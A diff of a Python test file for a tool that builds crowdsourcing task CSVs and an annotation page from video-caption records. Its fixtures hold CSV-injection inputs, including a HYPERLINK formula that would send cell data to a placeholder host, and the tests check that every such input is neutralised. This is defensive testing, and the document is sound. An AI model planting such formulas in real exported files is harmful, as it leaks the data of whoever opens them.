@@ -14,20 +14,16 @@ from fiberbench.data import SAMPLE_DIR
 from fiberbench.data.annotation import CLIPS_PER_TASK, PAGE_PATH, annotation_page, input_columns, preview_url
 from fiberbench.data.hits import task_columns
 
-from .conftest import blanked_record, snapshot
+from .conftest import blanked_record
 
 SAMPLE_VAL = json.loads((SAMPLE_DIR / "val.json").read_text())
 # Cells a spreadsheet would run as formulas (OWASP's "CSV Injection"), as captions, labels and ids can start.
-FORMULAS = [
-    blanked_record("abcdefghij1", "=1+2 a cake is shown.", "a cake"),
-    blanked_record("abcdefghij2", 'A sign says =HYPERLINK("http://x.example/?d="&A1,"Open").', '=HYPERLINK("http://x.example/?d="&A1,"Open")'),
-    blanked_record("-bcdefghij3", "+1 and a dog runs.", "a dog"),
-    blanked_record("abcdefghij4", "-2 is on the board.", "the board"),
-    blanked_record("abcdefghij5", "@home a man sings.", "a man"),
-    blanked_record("abcdefghij6", "\t=1+1 is on the wall.", "the wall"),
-    blanked_record("abcdefghij7", "\r=1+1 is on the door.", "the door"),
-    blanked_record("abcdefghij8", '${price} says "it\'s <b>fun</b>" & shows a screen.', "a screen"),
-]
+FORMULAS = [blanked_record(f"{'-' if number == 3 else 'a'}bcdefghij{number}", caption, label) for number, (caption, label)
+            in enumerate([("=1+2 a cake is shown.", "a cake"), ("A sign says =HYPERLINK(\"http://x.example/?d=\"&A1,"
+                           "\"Open\").", '=HYPERLINK("http://x.example/?d="&A1,"Open")'), ("+1 and a dog runs.", "a dog"),
+                          ("-2 is on the board.", "the board"), ("@home a man sings.", "a man"),
+                          ("\t=1+1 is on the wall.", "the wall"), ("\r=1+1 is on the door.", "the door"),
+                          ('${price} says "it\'s <b>fun</b>" & shows a screen.', "a screen")], start=1)]
 
 
 def read_csv(path):
@@ -63,9 +59,8 @@ def test_no_cell_is_a_formula_or_markup_and_each_reads_back_as_written(tmp_path)
     columns, rows = read_csv(tmp_path / "hits.csv")
     cells = [row[column] for row in rows for column in columns]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") or set('"<>\'') & set(cell)]
-    assert [clip for clip in clips_of(rows, CLIPS_PER_TASK) if clip["video_id"]] == [
-        {field: str(record[field]) for field in input_columns(1)} for record in FORMULAS
-    ]
+    expected = [{field: str(record[field]) for field in input_columns(1)} for record in FORMULAS]
+    assert [clip for clip in clips_of(rows, CLIPS_PER_TASK) if clip["video_id"]] == expected
 
 
 def test_the_shipped_page_is_the_page_of_five_clips_and_page_file_writes_another(tmp_path, caplog):
@@ -78,36 +73,27 @@ def test_the_shipped_page_is_the_page_of_five_clips_and_page_file_writes_another
         assert main(["hit-inputs", str(SAMPLE_DIR / "val.json"), "--questions_per_hit", "3", "--output_file",
                      str(tmp_path / "hits.csv"), "--page_file", str(tmp_path / "task.html")]) == 0
     written = (tmp_path / "task.html").read_text()
-    assert written == annotation_page(3) and re.findall(r'data-video-id="\$\{(\w+)\}"', written) == [
-        "video1_id", "video2_id", "video3_id"
-    ]
+    slots = re.findall(r'data-video-id="\$\{(\w+)\}"', written)
+    assert written == annotation_page(3) and slots == ["video1_id", "video2_id", "video3_id"]
     assert f"Preview the first task in a browser: {(tmp_path / 'task.html').resolve().as_uri()}?video1_id=" in caplog.text
 
 
 RECORD = '{"video_id": "abc", "video_start_time": 0, "video_end_time": 10, "masked_caption": "A _____.", "label": "x"}'
 
 
-@pytest.mark.parametrize(
-    ("content", "arguments", "status", "message"),
-    [
-        ("[]", [], 1, r"val.json: holds no clips"),
-        (RECORD.replace('"abc"', '"a/../b"').join("[]"), [], 1, r"val.json: record 0: field 'video_id': 'a/../b' is not"),
-        (RECORD.replace("A _____.", "no blank").join("[]"), [], 1, r"record 0: field 'masked_caption': expected exactly one"),
-        (f"[{RECORD}, {RECORD}]", [], 1, r"val.json: record 1: clip \('abc', 0, 10\) is also record 0 of"),
-        (RECORD[:20], [], 1, r"val.json: record 0: invalid JSON"),
-        (f"[{RECORD}]", ["--questions_per_hit", "0"], 2, r"--questions_per_hit: must be at least 1, got 0"),
-        (f"[{RECORD}]", ["--output_file", "{input}"], 2, r"--output_file .*val.json is an input of this command"),
-        (f"[{RECORD}]", ["--page_file", "{output}"], 2, r"--output_file .*hits.csv and --page_file .*hits.csv would share"),
-        (f"[{RECORD}]", ["--page_file", "{page}"], 2, r"--page_file .*hits.html would share one record"),
-    ],
-)
-def test_bad_inputs_are_one_line_and_write_nothing(tmp_path, cli_error, content, arguments, status, message):
+@pytest.mark.parametrize(("content", "arguments", "status", "message"), [
+    ("[]", [], 1, r"val.json: holds no clips"),
+    (RECORD.replace('"abc"', '"a/../b"').join("[]"), [], 1, r"val.json: record 0: field 'video_id': 'a/../b' is not"),
+    (RECORD.replace("A _____.", "no blank").join("[]"), [], 1, r"record 0: field 'masked_caption': expected exactly one"),
+    (f"[{RECORD}, {RECORD}]", [], 1, r"val.json: record 1: clip \('abc', 0, 10\) is also record 0 of"),
+    (RECORD[:20], [], 1, r"val.json: record 0: invalid JSON"),
+    (f"[{RECORD}]", ["--questions_per_hit", "0"], 2, r"--questions_per_hit: must be at least 1, got 0"),
+    (f"[{RECORD}]", ["--output_file", "{input}"], 2, r"--output_file .*val.json is an input of this command"),
+    (f"[{RECORD}]", ["--page_file", "{output}"], 2, r"--output_file .*hits.csv and --page_file .*hits.csv would share"),
+    (f"[{RECORD}]", ["--page_file", "{page}"], 2, r"--page_file .*hits.html would share one record"),
+])
+def test_bad_inputs_are_one_line_and_write_nothing(tmp_path, refused, content, arguments, status, message):
     path, output = tmp_path / "val.json", tmp_path / "hits.csv"
     path.write_text(content)
     arguments = [argument.format(input=path, output=output, page=tmp_path / "hits.html") for argument in arguments]
-    if "--output_file" not in arguments:
-        arguments += ["--output_file", str(output)]
-    before = snapshot(tmp_path)
-    code, line = cli_error("hit-inputs", path, *arguments)
-    assert code == status and re.search(message, line), line
-    assert snapshot(tmp_path) == before
+    refused(tmp_path, status, message, "hit-inputs", path, "--output_file", output, *arguments)  # the row's flag wins
